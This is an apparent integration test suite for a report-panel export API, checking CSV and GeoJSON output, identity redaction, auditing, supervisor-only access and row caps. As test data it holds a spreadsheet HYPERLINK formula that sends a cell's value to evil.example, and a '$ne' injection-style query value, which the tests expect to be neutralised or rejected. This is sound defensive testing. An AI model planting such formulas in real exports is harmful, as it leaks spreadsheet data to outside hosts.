/**
 * CSV and GeoJSON exports of the queue against the real service: exactly the queue's filters, no
 * identities (not even in the raw bytes), descriptions only for non-sensitive categories, formula
 * cells neutralised, a GeoJSON that QGIS reads, supervisors only, every export audited, and a
 * clear refusal beyond the row cap (PANEL_EXPORT_MAX_ROWS, set low here).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ReportView } from '../../../src/domain/ports';
import { startTestApp, type TestApp } from '../../support/test-app';
import { PanelClient, loggedIn, seedReport } from '../panel/panel-helpers';

const MAX_ROWS = 6;
const COLUMNS = [
  'ticketCode', 'status', 'categoryId', 'category', 'reliability', 'priority', 'zone', 'zoneName', 'address',
  'lat', 'lng', 'channel', 'createdAt', 'takenAt', 'dispatchedAt', 'closedAt', 'outcome', 'confirmations', 'description',
  'observedWhen', 'observedFrom', 'observedTo', 'observedEvery',
];
const PHONE = '+393331234567';
const CONFIRMER_PHONE = '+393339876543';
const LAST_NIGHT = { from: new Date('2026-11-17T21:00:00Z'), to: new Date('2026-11-18T05:00:00Z') };
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';

let app: TestApp;
let supervisor: PanelClient;
let agent: PanelClient;
const seeded: Record<string, ReportView> = {};

/** RFC 4180 parser (quotes, doubled quotes, CRLF, line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') endCell();
    else if (ch === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += ch;
  }
  if (cell || row.length) throw new Error('the CSV does not end with CRLF');
  return rows;
}

const records = (text: string) => {
  const [header, ...rows] = parseCsv(text.replace(/^\uFEFF/, ''));
  return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
};

beforeAll(async () => {
  app = await startTestApp({ PANEL_EXPORT_MAX_ROWS: String(MAX_ROWS) });
  [supervisor, agent] = await Promise.all([loggedIn(app, 'sara.supervisore', 'supervisor'), loggedIn(app, 'mario.agente', 'agent')]);
  seeded.theft = await seedReport(app, {
    categoryId: 'theft',
    zone: 'lammari',
    point: { lat: 43.8672, lng: 10.553 },
    address: 'Via Carlo Piaggia 5, Lammari',
    description: 'Un uomo alto con giubbotto rosso forza le auto',
    channel: 'whatsapp',
    citizenRef: 'reporter-citizen-ref',
    photoRefs: ['img_0123456789abcdef0123456789abcdef.jpg'],
    priority: 80,
    observedWhen: { text: 'stanotte verso le due', kind: 'moment', from: LAST_NIGHT.from, to: LAST_NIGHT.to },
  });
  seeded.vandalism = await seedReport(app, {
    categoryId: 'vandalism',
    zone: 'marlia',
    point: { lat: 43.9035, lng: 10.5512 },
    address: 'Via "delle Ville", 12\nMarlia',
    description: FORMULA,
    priority: 50,
  });
  seeded.waste = await seedReport(app, {
    categoryId: 'abandoned_waste',
    zone: 'capannori-centro',
    point: { lat: 43.8435, lng: 10.58 },
    description: '+39 sacchi, -2 ieri, @comune: ancora lì',
    channel: 'telegram',
    priority: 30,
    observedWhen: { text: 'tutte le sere da una settimana', kind: 'recurring', every: 'evening', from: LAST_NIGHT.from },
  });
  seeded.closed = await seedReport(app, { categoryId: 'noise', zone: 'lunata', point: { lat: 43.8438, lng: 10.5526 }, description: 'Musica alta', priority: 10 });
  for (const [action, set] of [
    ['take', { assignee: 'mario.agente' }],
    ['close', { outcome: { code: 'nothing_found', note: 'Parlato con il sig. Bianchi' } }],
  ] as const)
    await app.storage.reports.applyTransition({ id: seeded.closed.id, action, actor: 'mario.agente', set });
  // A confirmation by another citizen: their chat, reference and description stay in the database.
  await app.storage.confirmations.addConfirmation(seeded.theft.id, {
    messageId: 'confirm-1',
    at: new Date(),
    citizenRef: 'confirming-citizen-ref',
    channel: 'whatsapp',
    language: 'it',
    reliability: 'seen',
    description: 'Anche io ho visto quell’uomo',
    photoRefs: ['img_fedcba9876543210fedcba9876543210.jpg'],
  });
  // Who they are stays in the identity store (the phone number is the WhatsApp chat).
  for (const [citizenRef, phone, name] of [
    ['reporter-citizen-ref', PHONE, 'Anna Verdi'],
    ['confirming-citizen-ref', CONFIRMER_PHONE, 'Paolo Neri'],
  ])
    await app.storage.identities.upsertFromInbound(citizenRef, {
      channel: 'whatsapp',
      chatId: `${phone.slice(1)}@c.us`,
      messageId: `id-${citizenRef}`,
      sender: { platformId: `${phone.slice(1)}@c.us`, phone, displayName: name },
      receivedAt: new Date(),
      payload: { kind: 'text', text: 'Buongiorno' },
    });
  seeded.other = await seedReport(app, { categoryId: 'other', description: 'Senza zona' });
}, 120_000);

afterAll(async () => {
  await app?.stop();
});

/** What must never appear anywhere in an export. */
function expectNoIdentity(text: string) {
  for (const secret of [
    '393331234567',
    '393339876543',
    'Anna Verdi',
    'Paolo Neri',
    'reporter-citizen-ref',
    seeded.vandalism.citizenRef,
    'confirming-citizen-ref',
    'Anche io ho visto',
    'img_0123456789abcdef',
    'img_fedcba9876543210',
    'mario.agente',
    'sig. Bianchi',
  ])
    expect(text, secret).not.toContain(secret);
  expect(text).not.toMatch(/chatId|citizenRef|followers|photo/i);
}

describe('GET /api/reports/export.csv', () => {
  it('exports the open queue as UTF-8 CSV with a BOM, comma separated, without identities', async () => {
    const res = await supervisor.get('/api/reports/export.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="segnalazioni-\d{8}-\d{4}\.csv"$/);
    const raw = Buffer.from(await (await fetch(`${app.url}/api/reports/export.csv`, { headers: { cookie: supervisor.cookieHeader() } })).arrayBuffer());
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const { header, rows } = records(res.text);
    expect(header).toEqual(COLUMNS);
    expectNoIdentity(res.text);
    // The queue's default: open statuses, by priority.
    expect(rows.map((r) => r.ticketCode)).toEqual([seeded.theft, seeded.vandalism, seeded.waste, seeded.other].map((r) => r.ticketCode));
    const theft = rows[0];
    expect(theft).toMatchObject({
      status: 'new',
      categoryId: 'theft',
      category: 'Furto o tentato furto/scasso',
      reliability: 'seen',
      priority: '80',
      zone: 'lammari',
      zoneName: 'Lammari',
      address: 'Via Carlo Piaggia 5, Lammari',
      lat: '43.8672',
      lng: '10.553',
      channel: 'whatsapp',
      createdAt: seeded.theft.createdAt.toISOString(),
      confirmations: '1',
      // A sensitive category: the citizen's description may describe a person; their time words too.
      description: '',
      observedWhen: '',
      observedFrom: LAST_NIGHT.from.toISOString(),
      observedTo: LAST_NIGHT.to.toISOString(),
      observedEvery: '',
    });
  });

  it('keeps quotes, commas and line breaks in a cell, and never lets a cell start a formula', async () => {
    const { rows } = records((await supervisor.get('/api/reports/export.csv')).text);
    const vandalism = rows.find((r) => r.ticketCode === seeded.vandalism.ticketCode)!;
    expect(vandalism.address).toBe('Via "delle Ville", 12\nMarlia');
    expect(vandalism.description).toBe(`'${FORMULA}`);
    const waste = rows.find((r) => r.ticketCode === seeded.waste.ticketCode)!;
    expect(waste.description).toBe(`'+39 sacchi, -2 ieri, @comune: ancora lì`);
    expect(waste).toMatchObject({ observedWhen: 'tutte le sere da una settimana', observedFrom: LAST_NIGHT.from.toISOString(), observedTo: '', observedEvery: 'evening' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('honours exactly the queue’s filters: the same reports as GET /api/reports with the same query', async () => {
    for (const query of ['status=closed', 'status=new,closed&category=noise,theft', 'zone=marlia,lunata&status=new,closed', 'channel=telegram', 'sort=newest', `from=${new Date(Date.now() - 3_600_000).toISOString()}`]) {
      const queue = await supervisor.get(`/api/reports?${query}&limit=200`);
      const exported = records((await supervisor.get(`/api/reports/export.csv?${query}`)).text).rows;
      expect(exported.map((r) => r.ticketCode), query).toEqual(queue.body.items.map((r: { ticketCode: string }) => r.ticketCode));
    }
    const closed = records((await supervisor.get('/api/reports/export.csv?status=closed')).text).rows;
    expect(closed).toHaveLength(1);
    expect(closed[0]).toMatchObject({ status: 'closed', outcome: 'nothing_found', description: 'Musica alta' });
    expect(closed[0].takenAt).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(closed[0].closedAt).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(closed[0].dispatchedAt).toBe('');
  });

  it('audits every export with its filters and row count', async () => {
    await supervisor.get('/api/reports/export.csv?status=closed&category=noise');
    const events = await app.mongo.collection('audit_events').find({ action: 'reports.export', 'details.filters.categoryId': ['noise'] }).toArray();
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      actor: 'sara.supervisore',
      actorRole: 'supervisor',
      details: { format: 'csv', rows: 1, filters: { status: ['closed'], categoryId: ['noise'], sort: 'priority' } },
    });
  });
});

describe('GET /api/reports/export.geojson', () => {
  it('is a FeatureCollection of WGS84 points in [lng, lat] order, with the properties and no identities', async () => {
    const res = await supervisor.get('/api/reports/export.geojson?status=new,in_review,needs_info,dispatched,closed');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/geo\+json/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="segnalazioni-\d{8}-\d{4}\.geojson"$/);
    expectNoIdentity(res.text);
    const fc = JSON.parse(res.text);
    expect(fc.type).toBe('FeatureCollection');
    expect(fc.features).toHaveLength(5);
    for (const f of fc.features) {
      expect(f.type).toBe('Feature');
      expect(f.geometry.type).toBe('Point');
      const [lng, lat] = f.geometry.coordinates;
      // Capannori: longitude about 10.5, latitude about 43.8.
      expect(lng).toBeGreaterThan(10.4);
      expect(lng).toBeLessThan(10.7);
      expect(lat).toBeGreaterThan(43.7);
      expect(lat).toBeLessThan(44);
      expect(Object.keys(f.properties).sort()).toEqual(COLUMNS.filter((c) => c !== 'lat' && c !== 'lng').sort());
    }
    const theft = fc.features.find((f: { properties: { ticketCode: string } }) => f.properties.ticketCode === seeded.theft.ticketCode);
    expect(theft.geometry.coordinates).toEqual([10.553, 43.8672]);
    expect(theft.properties).toMatchObject({ categoryId: 'theft', zoneName: 'Lammari', confirmations: 1, description: null, takenAt: null });
    const vandalism = fc.features.find((f: { properties: { ticketCode: string } }) => f.properties.ticketCode === seeded.vandalism.ticketCode);
    expect(vandalism.properties.description).toBe(FORMULA);
  });

  it('is a valid empty collection when nothing matches', async () => {
    const res = await supervisor.get('/api/reports/export.geojson?status=rejected');
    expect(JSON.parse(res.text)).toEqual({ type: 'FeatureCollection', name: 'vicinato_segnalazioni', features: [] });
  });
});

describe('who may export, and what a bad or too large request gets', () => {
  it('refuses agents (403) and callers without a session (401), and audits nothing for them', async () => {
    for (const path of ['/api/reports/export.csv', '/api/reports/export.geojson']) {
      const res = await agent.get(path);
      expect(res.status).toBe(403);
      expect(res.body.error).toMatch(/ruolo/);
      expect((await new PanelClient(app.url).get(path)).status).toBe(401);
    }
    expect(await app.mongo.collection('audit_events').countDocuments({ action: 'reports.export', actor: 'mario.agente' })).toBe(0);
  });

  it.each([
    ['status=bogus', /status: unknown value/],
    ['status[$ne]=closed', /unknown field|plain/],
    ['category=theft&category=noise', /plain comma-separated list/],
    ['from=2026-05-10&to=2026-05-01', /from must be before to/],
  ])('?%s -> 400 with the reason', async (query, reason) => {
    const res = await supervisor.get(`/api/reports/export.csv?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.error).toMatch(reason);
  });

  it('refuses more rows than the cap with a reason, instead of a partial file', async () => {
    await seedReport(app, { categoryId: 'other', description: 'una in più' });
    await seedReport(app, { categoryId: 'other', description: 'e un’altra' });
    const all = 'status=new,in_review,needs_info,dispatched,closed,rejected,duplicate';
    const res = await supervisor.get(`/api/reports/export.geojson?${all}`);
    expect(res.status).toBe(400);
    expect(res.body.error).toBe(`Troppe segnalazioni da esportare (7; massimo ${MAX_ROWS}): restringi i filtri (per esempio le date) e riprova.`);
    expect((await supervisor.get('/api/reports/export.csv?status=closed')).status).toBe(200);
  });
});
